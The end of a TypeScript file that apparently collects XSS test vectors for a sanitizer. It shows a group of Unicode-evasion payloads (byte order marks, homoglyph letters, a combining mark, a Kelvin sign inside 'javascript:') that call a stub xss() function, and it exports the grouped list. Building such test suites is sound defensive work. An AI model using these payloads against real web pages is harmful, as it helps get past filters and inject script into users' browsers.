  ["byte order mark before script", "\ufeff<script>xss()</script>"],
  ["byte order mark before javascript:", '<a href="\ufeffjavascript:xss()">x</a>'],
  ["Cyrillic s in script", "<\u0455cript>xss()</\u0455cript>"],
  ["dotted capital I in img", "<\u0130mg src=x onerror=xss()>"],
  [
    "mathematical bold script",
    "<\ud835\udc2c\ud835\udc1c\ud835\udc2b\ud835\udc22\ud835\udc29\ud835\udc2d>xss()</\ud835\udc2c\ud835\udc1c\ud835\udc2b\ud835\udc22\ud835\udc29\ud835\udc2d>",
  ],
  ["combining mark after <", "<\u0338script>xss()</script>"],
  ["Kelvin sign in a link scheme", '<a href="javascript\u212a:xss()">x</a>'],
];

const groups: Record<string, [string, string][]> = {
  script: scriptTags,
  handler: handlers,
  url: urls,
  svg,
  mathml,
  style: styles,
  document: documentLevel,
  malformed,
  comment: commentsAndCdata,
  mutation,
  namespace: namespaces,
  nul: nullBytes,
  polyglot: polyglots,
  attribute: attributes,
  css,
  "svg animation": svgMore,
  "mutation, more": mutationMore,
  encoding: encodings,
  unicode,
};

export const vectors: XssVector[] = Object.entries(groups).flatMap(([group, list]) =>
  list.map(([name, html]) => ({ name: `${group}: ${name}`, html })),
);
